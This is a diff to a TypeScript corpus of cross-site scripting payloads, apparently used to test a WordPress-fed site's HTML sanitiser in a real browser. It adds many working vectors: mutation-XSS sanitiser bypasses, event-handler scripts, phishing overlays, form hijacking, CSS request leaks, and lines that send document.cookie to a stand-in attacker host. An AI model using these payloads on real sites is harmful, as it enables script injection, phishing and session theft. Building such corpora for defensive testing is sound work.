@@ -6,8 +6,12 @@
  * The families follow the classic filter-evasion vectors (OWASP's cheat sheet: script variants, event handlers,
  * script URLs and their encodings, malformed tags, CSS, document-level and plug-in elements, character-set tricks)
  * and the mutation-XSS and namespace-confusion cases published against DOMPurify and other sanitisers (raw-text
- * breakouts, svg/math integration points, comments, DOM clobbering), rewritten for this corpus. Not a test file,
- * so it is type-checked with the application code but never imported by it.
+ * breakouts, svg/math integration points, comments, DOM clobbering), rewritten for this corpus. Later families
+ * add what targets this site and today's Chromium: its own class names and ids (styled-components, Swiper, the
+ * contact form), ARIA references into the page, customizable <select> (appearance: base-select) and declarative
+ * shadow roots, slug traversal, form hijacking by form=/formaction, request leaks (cure53's HTTPLeaks), event
+ * vectors from PortSwigger's XSS cheat sheet, DOMPurify's own mXSS regression vectors, and payloads that call
+ * XSS_CANARY. Not a test file, so it is type-checked with the application code but never imported by it.
  */
 
 /** One payload: a short, unique name and the HTML exactly as WordPress could return it. */
@@ -22,6 +26,12 @@ export interface XssFamily {
 }
 
 const payload = (name: string, html: string): XssPayload => ({ name, html });
+
+/**
+ * A global function the real-browser check (tests/xss/) defines on every page: payloads that call it prove that
+ * script ran even where no dialog would open. Its base64 form, "c2F0b3JpWHNzQ2FuYXJ5KCk=", is "satoriXssCanary()".
+ */
+export const XSS_CANARY = 'satoriXssCanary';
 
 /** A valid-looking player embed, used where a payload needs an iframe the allow-list would otherwise keep. */
 const YOUTUBE_EMBED = 'https://www.youtube.com/embed/M7lc1UVf-VE';
@@ -365,6 +375,261 @@ export const XSS_FAMILIES: readonly XssFamily[] = [
       payload('named window target', '<a href="https://evil.example/" target="satori">Case study</a>'),
       payload('target on an image map area', '<map name="m"><area href="https://evil.example/" target="_top"></map>'),
       payload('ping tracking link', '<a href="/" ping="https://evil.example/track">Home</a>'),
+    ],
+  },
+  {
+    family: "the site's own classes and overlays",
+    payloads: [
+      payload('styled-components component id', '<div class="sc-gEvEer">Your session expired: sign in again</div>'),
+      payload('styled-components generated names', '<div class="kXrGxh bYPztT">Your session expired: sign in again</div>'),
+      payload('styled-components display name', '<nav class="site-header-styles__Bar-sc-1x2y3z4">Home | Blog | Contact</nav>'),
+      payload(
+        'Swiper container',
+        '<div class="swiper swiper-initialized swiper-horizontal"><div class="swiper-wrapper"><div class="swiper-slide">Slide</div></div></div>',
+      ),
+      payload('site class beside WordPress classes', '<div class="wp-block-group sc-a1b2c3 fixed">Mixed</div>'),
+      payload('utility-class overlay', '<div class="fixed inset-0 z-50 bg-white">Session expired. <a href="https://evil.example/login">Sign in</a></div>'),
+      payload('Bootstrap backdrop', '<div class="modal-backdrop show"></div><div class="modal d-block">Verify your account</div>'),
+      payload('WordPress-looking class in capitals', '<div class="WP-BLOCK-COVER Has-Background">Cover</div>'),
+      payload('WordPress sticky positioning', '<div class="wp-block-group is-position-sticky">Always on top</div>'),
+      payload('class with CSS characters', '<div class="wp-block-x{position:fixed;inset:0}">Braces</div>'),
+      payload('classes separated by tabs and newlines', '<p class="has-text-align-center\tsc-hKMtZM\nvisually-hidden">Separators</p>'),
+      payload(
+        'inline fixed box with a WordPress class',
+        '<div class="has-background" style="position:fixed;inset:0;z-index:2147483647;background:#fff">Maintenance</div>',
+      ),
+      payload('fake button over the navigation', '<a class="wp-element-button sc-button header-cta" href="https://evil.example/demo">Book a demo</a>'),
+      payload('animated class with a handler', '<p class="progress-bar-animated" onanimationstart="alert(1)">Loading</p>'),
+      payload('transition class with a handler', '<div class="carousel slide" ontransitionend="alert(1)">Slides</div>'),
+      payload('class on an excerpt paragraph', '<p class="sc-gEvEer wp-block-paragraph">Excerpt with classes</p>'),
+    ],
+  },
+  {
+    family: 'ARIA references to the page',
+    payloads: [
+      payload('aria-owns adopting the navigation', '<div aria-owns="main-navigation site-menu">Menu</div>'),
+      payload('aria-labelledby naming a post with page text', '<section><p aria-labelledby="site-title">Read this</p></section>'),
+      payload('aria-describedby pointing at two page elements', '<div aria-describedby="cookie-banner contact-form">Notice</div>'),
+      payload('aria-controls on a fake disclosure', '<div aria-controls="mobile-menu" aria-expanded="true">Open the menu</div>'),
+      payload('aria-activedescendant', '<div aria-activedescendant="skip-link">Active</div>'),
+      payload('aria-flowto the footer', '<p aria-flowto="site-footer">Next</p>'),
+      payload('aria-details and aria-errormessage', '<div aria-details="pricing" aria-errormessage="email-error">Details</div>'),
+      payload('dialog role over the page', '<div role="dialog" aria-modal="true" aria-label="Session expired">Sign in again</div>'),
+      payload('reference already prefixed and one not', '<h2 id="intro">Intro</h2><div aria-labelledby="user-content-intro site-title">Both</div>'),
+    ],
+  },
+  {
+    family: 'customizable select and new parser rules',
+    payloads: [
+      payload(
+        'base-select with an image option',
+        '<select style="appearance: base-select"><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)>Plant</option></select>',
+      ),
+      payload('svg inside an option', '<select><option><svg onload=alert(1)></svg>Line 4</option></select>'),
+      payload('div inside a select', '<select><div><img src=x onerror=alert(1)></div></select>'),
+      payload('button inside a select', '<select><button><img src=x onerror=alert(1)></button></select>'),
+      payload('selectedcontent on its own', '<selectedcontent><img src=x onerror=alert(1)></selectedcontent>'),
+      payload('style across an option', '<select><option><style></option><img src=x onerror=alert(1)></style></option></select>'),
+      payload('legend inside an optgroup', '<select><optgroup><legend><img src=x onerror=alert(1)></legend></optgroup></select>'),
+      payload('math style inside a select', '<select><hr><math><mi><style><img src=x onerror=alert(1)></style></mi></math></select>'),
+      payload('script link inside an option', '<select><option><a href="javascript:alert(1)">Pick</a></option></select>'),
+      payload('shadow root inside an option', '<select><option><template shadowrootmode="open"><img src=x onerror=alert(1)></template>Opt</option></select>'),
+      payload('broken option with a style', '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>'),
+      payload('iframe inside an option', '<option><iframe></select><b><script>alert(1)</script>'),
+      payload('autofocused input inside a select', '<select><input autofocus onfocus=alert(1)></select>'),
+    ],
+  },
+  {
+    family: 'slug and path traversal',
+    payloads: [
+      payload('encoded traversal out of the build', '<a href="/blogs/..%2F..%2Ftmp%2Fx">Launch notes</a>'),
+      payload('encoded traversal onto another page', '<a href="/blogs/..%2Fabout">About us</a>'),
+      payload('percent-octet slug', '<a href="/CaseStudy/launch%2d2026">Launch 2026</a>'),
+      payload('dot-segments with a query', '<a href="/blogs/%2e%2e/%2e%2e/Contact/Contactus?name=x&amp;email=y">Contact</a>'),
+      payload('image from a parent directory', '<img src="../../../../etc/passwd" alt="Chart">'),
+      payload('backslash traversal', '<a href="/blogs/..\\..\\admin">Admin</a>'),
+      payload('backslash turning a path into another host', '<a href="/\\evil.example/blogs">Blog</a>'),
+      payload('line break and NUL in a slug', '<a href="/blogs/%00%0d%0aSet-Cookie:x=1">Header</a>'),
+      payload('traversal in an id and its link', '<h2 id="../../about">Traversal</h2><a href="#../../about">Jump</a>'),
+      payload('traversal into the server bundle', '<a href="/blogs/x%2F..%2F..%2F..%2Fdist-ssr%2Fentry-server.js">Bundle</a>'),
+      payload('script scheme after a traversal', '<a href="/blogs/../javascript:alert(1)">Relative</a>'),
+    ],
+  },
+  {
+    family: 'srcdoc, meta refresh and base href',
+    payloads: [
+      payload('srcdoc with an svg', '<iframe srcdoc="<svg onload=alert(1)>"></iframe>'),
+      payload('srcdoc with numeric entities', '<iframe srcdoc="&#60;script&#62;alert(1)&#60;/script&#62;"></iframe>'),
+      payload('srcdoc calling its parent', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
+      payload('object with a data URL page', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
+      payload('embed with a data URL page', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
+      payload('meta refresh without url=', '<meta http-equiv="refresh" content="0;javascript:alert(1)">'),
+      payload('meta refresh with a quoted URL', '<meta http-equiv="refresh" content="0; URL=\'https://evil.example/\'">'),
+      payload('meta refresh, attributes reversed', '<meta content="0;url=https://evil.example/" http-equiv="refresh">'),
+      payload('meta policy loosening scripts', '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'),
+      payload('meta Link header', '<meta http-equiv="Link" content="<https://evil.example/x.css>; rel=stylesheet">'),
+      payload('meta referrer leak', '<meta name="referrer" content="unsafe-url"><a href="https://evil.example/">Partner</a>'),
+      payload('base href script URL with a relative link', '<base href="javascript:/a/-alert(1)///////"><a href="../lol/safari.html">test</a>'),
+      payload('base href to another host before an image', '<base href="//evil.example/"><img src="/logo.png" alt="Logo">'),
+      payload('base in a head inside the body', '<head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a></body>'),
+    ],
+  },
+  {
+    family: 'forms and formaction',
+    payloads: [
+      payload('button naming an earlier form', '<form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button>'),
+      payload('newline inside a script action', '<form action="javasc\nript:alert(1)"><button>XXX</button></form>'),
+      payload('image input posting elsewhere', '<input type="image" formaction="https://evil.example/" src="/x.png">'),
+      payload('post form to another site', '<form action="https://evil.example/" method="post"><input name="email" value="a@b.c"><input type="submit"></form>'),
+      payload(
+        'dirname leaking a field',
+        '<form action="x" method="post"><input name="injected" value="injected" dirname="password"><input type="submit"></form>',
+      ),
+      payload("button hijacking the site's contact form", '<button form="contact-form" formaction="https://evil.example/steal">Send</button>'),
+      payload("input joining the site's contact form", '<input form="contact-form" name="message" value="Call this number instead">'),
+      payload("textarea joining the site's contact form", '<textarea form="contact-form" name="email">attacker@evil.example</textarea>'),
+      payload("popover invoker for the site's menu", '<button popovertarget="mobile-menu" popovertargetaction="show">Menu</button>'),
+      payload("command invoker for the site's dialog", '<button command="show-modal" commandfor="site-dialog">Open</button>'),
+      payload(
+        'search landmark with a form',
+        '<search><form action="https://evil.example/search"><input type="search" name="q"><button>Search</button></form></search>',
+      ),
+    ],
+  },
+  {
+    family: 'more DOM clobbering',
+    payloads: [
+      payload('createElement by name and by id', '<img src=x name=createElement><img src=y id=createElement>'),
+      payload('namespaceURI through a form', '<form><input name=namespaceURI>'),
+      payload('body and adoptNode through images', '<image name=body><image name=adoptNode>@mmrupp<image name=firstElementChild><svg onload=alert(1)>'),
+      payload('activeElement through an image', '<image name=activeElement><svg onload=alert(1)>'),
+      payload('submit and acceptCharset', '<input name=submit>123<input name=acceptCharset>'),
+      payload('removeAttributeNode inside a form', '<form onsubmit=alert(1)><input onfocus=alert(2) name=removeAttributeNode>123</form>'),
+      payload("the page's own ids", '<p id="root">Root</p><form id="contact-form"></form><a id="main" href="#">Main</a>'),
+      payload('clobbering a settings object', '<a id="satoriConfig"></a><a id="satoriConfig" name="apiUrl" href="https://evil.example/">x</a>'),
+      payload('named iframe as defaultView', '<iframe name="defaultView" srcdoc="<p>x</p>"></iframe>'),
+    ],
+  },
+  {
+    family: 'CSS exfiltration and request leaks',
+    payloads: [
+      payload('attribute selector reading a value', '<style>input[value^="a"]{background:url(https://evil.example/?a)}</style><input value="abc">'),
+      payload('font face request', '<style>@font-face{font-family:leak;src:url(https://evil.example/font)}p{font-family:leak}</style><p>x</p>'),
+      payload('import by url()', '<style>@import url(https://evil.example/x.css);</style>'),
+      payload('inline URLs behind entities', '<b style="list-style:url(https://evil.example/a);background:url&#40;https://evil.example/b&#41;">x</b>'),
+      payload('escaped url function', '<p style="background-image: \\75 \\72 \\6C (https://evil.example/x)">x</p>'),
+      payload('custom property carrying a URL', '<style>s{--leak:url(https://evil.example/v)}s{background:var(--leak)}</style><s>x</s>'),
+      payload(
+        'svg paint servers from another host',
+        '<svg><circle r="40" style="fill:url(https://evil.example/f#x);filter:url(https://evil.example/g#x)"></circle></svg>',
+      ),
+      payload('preload image set', '<link rel="preload" as="image" imagesrcset=",,,,,https://evil.example/x">'),
+      payload('prefetch and preconnect', '<link rel="prefetch" href="https://evil.example/p"><link rel="preconnect" href="https://evil.example">'),
+      payload(
+        'ping on an image map area',
+        '<img src="/map.png" usemap="#m" alt=""><map name="m"><area ping="https://evil.example/ping" shape="rect" coords="0,0,9,9" href="#"></map>',
+      ),
+      payload('video with a text track', '<video src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt" default></video>'),
+      payload('picture source set', '<picture><source srcset="https://evil.example/pic"><img src="/a.jpg" alt=""></picture>'),
+      payload('svg image element', '<svg><image href="https://evil.example/i.png"/></svg>'),
+      payload('dangling image source', "<p>Intro</p><img src='https://evil.example/?leak="),
+      payload('dangling textarea in a form', '<form action="https://evil.example/"><textarea name="rest">'),
+      payload('cursor and border images', '<p style="cursor:url(https://evil.example/c),auto;border-image:url(https://evil.example/b) 30">x</p>'),
+    ],
+  },
+  {
+    family: 'animation, toggle and interaction events',
+    payloads: [
+      payload('keyframes ending', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="alert(1)">x</p>'),
+      payload('focus by tabindex', '<p id="x" tabindex="1" onfocus="alert(1)">Focus me</p>'),
+      payload('svg animate begin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
+      payload('svg set begin', '<svg><set onbegin=alert(1) attributename=x to=1>'),
+      payload('svg discard begin', '<svg><discard onbegin=alert(1)>'),
+      payload('popover before toggle', '<p onbeforetoggle="alert(1)" popover id="x">Tip</p><button popovertarget="x">Show</button>'),
+      payload('content visibility change', '<p oncontentvisibilityautostatechange="alert(1)" style="display:block;content-visibility:auto">x</p>'),
+      payload('auxiliary click', '<p onauxclick="alert(1)">Middle-click</p>'),
+      payload('autoplaying audio', '<audio autoplay onplay="alert(1)" src="/a.mp3"></audio>'),
+      payload('autoplaying video load start', '<video autoplay onloadstart="alert(1)" src="/v.mp4"></video>'),
+      payload('scrolling body', '<body onscroll="alert(1)"><br><br><br><input autofocus>'),
+      payload('access key on a hidden input', '<input type="hidden" accesskey="X" onclick="alert(1)">'),
+      payload('transition end on focus', '<p style="transition:outline 1s" ontransitionend="alert(1)" id="y" tabindex="1">x</p>'),
+      payload('image element with a load handler', '<image src="/x.png" onload="alert(1)">'),
+      payload('blur of an autofocused input', '<input onblur=alert(1) autofocus><input autofocus>'),
+      payload('scroll end', '<div onscrollend="alert(1)" style="overflow:auto;height:10px"><br><br><br></div>'),
+    ],
+  },
+  {
+    family: 'more mXSS from sanitiser bypasses',
+    payloads: [
+      payload('svg textarea title style', '<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>'),
+      payload('svg title with an id holding markup', '<svg></p><title><a id="</title><img src=x onerror=alert()>"></textarea></svg>'),
+      payload('math textarea mi style', '<math></p><textarea><mi><style></textarea><img src=x onerror=alert(1)></mi></math>'),
+      payload('svg title template style', '<svg></p><title><template><style></title><img src=x onerror=alert(1)>'),
+      payload('math br textarea template', '<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>'),
+      payload('svg math title style', '<svg></p><math><title><style><img src=x onerror=alert(1)></style></title>'),
+      payload('foreignobject style attribute', '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>'),
+      payload(
+        'annotation-xml style attribute',
+        '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
+      ),
+      payload('xmp svg removal', "<xmp><svg><b><style><b title='</style><img>'>"),
+      payload('noembed svg removal', "<noembed><svg><b><style><b title='</style><img>'>"),
+      payload('mglyph style math href', '<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>'),
+      payload('mglyph svg mtext path id', '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'),
+      payload(
+        'fake element in svg desc',
+        'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">',
+      ),
+      payload('nested templates', '<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>'),
+      payload('noscript closed inside a comment', '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>'),
+      payload('textarea then a comment', '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->'),
+      payload('style self-closed twice', '<b><style><style/><img src=x onerror=alert(1)>'),
+      payload('slash in an attribute name', "<img src=x id/=' onerror=alert(1)//'>"),
+      payload('listing with an unknown tag', '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'),
+      payload('svg style left open', '<svg><style><img/src=x onerror=alert(1)// </b>'),
+      payload('svg CDATA around an image href', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>'),
+      payload('control characters inside the scheme', '<a href="\u0001java\u0003script:alert(1)">x</a>'),
+      payload('unicode space before the scheme', '<a href="&#x2000;javascript:alert(1)">x</a><a href="&#xA0javascript:alert(1)">y</a>'),
+      payload(
+        'declarative shadow root',
+        '<div><template shadowrootmode="open"><style>:host{position:fixed}</style><img src=x onerror=alert(1)></template></div>',
+      ),
+      payload(
+        'maction with an xlink href',
+        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME<mtext>http://x</mtext></maction></math>',
+      ),
+      payload(
+        'svg animate from a script URL',
+        '<svg><a xlink:href="?"><circle r="400"></circle><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" to="&amp;" /></a></svg>',
+      ),
+      payload(
+        'feImage set to an svg document',
+        '<svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/></feImage></svg>',
+      ),
+      payload('comment closed inside a backtick', '<!-- `<img/src=xxx onerror=alert(1)//--!>'),
+      payload('bogus comment around an image', '<![><img src="]><img src=x onerror=alert(1)//">'),
+    ],
+  },
+  {
+    family: 'calls to the canary',
+    payloads: [
+      payload('inline script', `<script>${XSS_CANARY}()</script>`),
+      payload('image error through top', `<img src=x onerror="top.${XSS_CANARY}()">`),
+      payload('svg load by a computed name', `<svg onload="self['satori'+'XssCanary']()">`),
+      payload('script URL link', `<a href="javascript:${XSS_CANARY}()">Open</a>`),
+      payload('Function constructor in a handler', `<details open ontoggle="Function('${XSS_CANARY}()')()"><summary>x</summary></details>`),
+      payload('string timer in a handler', `<img src=x onerror="setTimeout('${XSS_CANARY}()')">`),
+      payload('string interval in a handler', `<img src=x onerror="setInterval('${XSS_CANARY}()', 1e9)">`),
+      payload('eval of base64', `<img src=x onerror="eval(atob('c2F0b3JpWHNzQ2FuYXJ5KCk='))">`),
+      payload('constructor chain', `<img src=x onerror="[].constructor.constructor('${XSS_CANARY}()')()">`),
+      payload('data URL module import', `<img src=x onerror="import('data:text/javascript,${XSS_CANARY}()')">`),
+      payload('srcdoc calling the parent', `<iframe srcdoc="<script>parent.${XSS_CANARY}()</script>"></iframe>`),
+      payload('location set to a script URL', `<img src=x onerror="location='javascript:${XSS_CANARY}()'">`),
+      payload('beacon with the cookies', `<img src=x onerror="navigator.sendBeacon('https://evil.example/b', document.cookie)">`),
+      payload('image request with the cookies', `<img src=x onerror="new Image().src='https://evil.example/?c='+document.cookie">`),
+      payload('print dialog', '<img src=x onerror="print()">'),
+      payload('confirm dialog', '<img src=x onerror="confirm(1)">'),
+      payload('prompt dialog', '<img src=x onerror="prompt(1)">'),
     ],
   },
 ];
